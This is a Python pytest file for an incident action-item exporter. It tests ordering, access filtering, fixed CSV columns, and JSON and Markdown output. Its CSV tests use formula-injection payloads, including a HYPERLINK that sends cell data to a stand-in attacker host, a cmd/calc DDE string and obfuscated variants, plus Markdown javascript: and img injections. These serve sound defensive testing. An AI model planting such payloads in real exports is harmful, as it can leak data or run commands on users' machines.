"""Measures as others plan with them: in one order, in columns that stay, and harmless."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from quarter import NOW, Kept, done, item

from service.store import Store
from workflows.export import COLUMNS, Format, in_order, written
from workflows.measured import Measured
from workflows.model import Incident
from workflows.sight import NOTHING, Sight

SEVERITIES = ("sev1", "sev2")
ALL = Sight(None)


@pytest.fixture
def kept(tmp_path: Path) -> Iterator[Kept]:
    store = Store(f"sqlite:///{tmp_path / 'store.db'}", lambda: NOW)
    store.migrate()
    yield Kept(store)
    store.close()


def found(
    kept: Kept, sight: Sight = ALL, team: str | None = None, *, ended: bool = False
) -> list[Measured]:
    with kept.store.read() as tx:
        return in_order(tx.exports.measures(sight, team, ended=ended), SEVERITIES)


def text(kept: Kept, as_: Format) -> str:
    return "".join(written(found(kept), as_))


def rows(kept: Kept) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text(kept, Format.CSV), newline="")))


def names(some: list[Measured]) -> list[str]:
    return [each.name for each in some]


# --- which, and in which order --------------------------------------------------------------------


def test_the_order_is_team_milestone_priority_due(kept: Kept) -> None:
    kept.incident(1, item(due=date(2026, 12, 1)), severity="sev2")
    kept.incident(2, item(due=date(2027, 1, 1)), item(2, milestone="Q1"), severity="sev1")
    kept.incident(3, item(2), item(1, due=date(2027, 1, 2)), severity="sev1")
    kept.incident(4, item(), severity=None)
    kept.incident(5, item(), team="ads", severity=None)
    assert names(found(kept)) == [
        "AI-1 of INC-5",  # another team
        "AI-2 of INC-2",  # the one with a milestone
        "AI-1 of INC-2",  # of those without one the gravest, by due date
        "AI-1 of INC-3",
        "AI-2 of INC-3",
        "AI-1 of INC-1",
        "AI-1 of INC-4",  # of no known severity
    ]


def test_only_open_ones_are_exported_unless_all_are_asked_for(kept: Kept) -> None:
    kept.incident(1, item(), done(2))
    assert names(found(kept)) == ["AI-1 of INC-1"]
    assert names(found(kept, ended=True)) == ["AI-1 of INC-1", "AI-2 of INC-1"]


def test_what_somebody_may_not_see_is_not_in_it(kept: Kept) -> None:
    kept.incident(1, item())
    kept.incident(2, item(), restricted=True)
    kept.incident(3, item(), team="ads")
    assert names(found(kept, team="payments")) == ["AI-1 of INC-1"]
    assert names(found(kept, Sight(frozenset({"ads"})))) == ["AI-1 of INC-3"]
    assert found(kept, Sight(frozenset({"ads"})), "payments") == []
    assert found(kept, NOTHING) == []


# --- CSV ------------------------------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("https://evil.example?x="&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u200b=1+1",  # shown without what nobody sees, it would be one
    "＝1+1",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_the_csv_begins_a_formula(kept: Kept, formula: str) -> None:
    hostile = item(title=formula, owner=formula, milestone=formula, success_measure=formula)
    kept.incident(1, hostile, service=formula)
    (row,) = rows(kept)
    for column in ("title", "owner", "milestone", "success_measure", "service"):
        assert row[column].startswith("'")
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_quotes_separators_and_line_ends_stay_in_their_cell(kept: Kept) -> None:
    kept.incident(1, item(title='say "no"; or, \r\n"=1"'))
    raw = text(kept, Format.CSV)
    assert [row["title"] for row in rows(kept)] == ['say "no"; or, "=1"']
    assert raw.count("\r\n") == 2, "a line for the columns and one for the measure"
    assert all(cell.startswith('"') for cell in raw.split("\r\n")[1].split('","')[0:1])


def test_the_columns_are_those_that_others_rely_on(kept: Kept) -> None:
    """Only ever add to them, at the end."""
    kept.incident(1, item(due=date(2026, 12, 1), owner="Zoë 🦉"))
    (row,) = rows(kept)
    assert list(row) == list(COLUMNS)
    assert ",".join(COLUMNS) == (
        "team,milestone,priority,due,incident,item,title,kind,area,owner,status,service,task,"
        "task_url,incident_url,document_url,success_measure,verdict,suspect"
    )
    assert (row["due"], row["item"], row["owner"]) == ("2026-12-01", "AI-1", "Zoë 🦉")


# --- JSON and Markdown ----------------------------------------------------------------------------


def test_json_holds_the_texts_as_they_are_and_null_for_what_is_unknown(kept: Kept) -> None:
    kept.incident(1, item(title="=1+1 🦉"), item(2))
    first, second = json.loads(text(kept, Format.JSON))
    assert (first["title"], first["due"], first["milestone"]) == ("=1+1 🦉", None, None)
    assert second["item"] == "AI-2"


@pytest.mark.parametrize(("as_", "empty"), [(Format.JSON, "[]\n"), (Format.MARKDOWN, "None.")])
def test_without_measures_the_file_still_is_one(kept: Kept, as_: Format, empty: str) -> None:
    assert empty in text(kept, as_)


def test_markdown_shows_hostile_words_as_words(kept: Kept) -> None:
    kept.incident(1, item(title="| [x](javascript:1) <img src=x> @kim #7", milestone="a\n## b"))
    shown = text(kept, Format.MARKDOWN)
    assert "\\| \\[x\\](javascript:1) \\<img src=x\\>" in shown
    assert [line for line in shown.splitlines() if line.startswith("#")] == [
        "# Measures",
        "## payments: a ## b",
    ]


def test_the_same_measures_make_the_same_file_whatever_their_order(kept: Kept) -> None:
    made: list[Incident] = [kept.incident(n, item(), item(2)) for n in (3, 1, 2)]
    for as_ in Format:
        before = "".join(written(found(kept), as_))
        for each in reversed(made):
            with kept.store.write() as tx:
                tx.incidents.save(replace(each, title="Other"), "policy-1")
        assert "".join(written(found(kept), as_)) == before
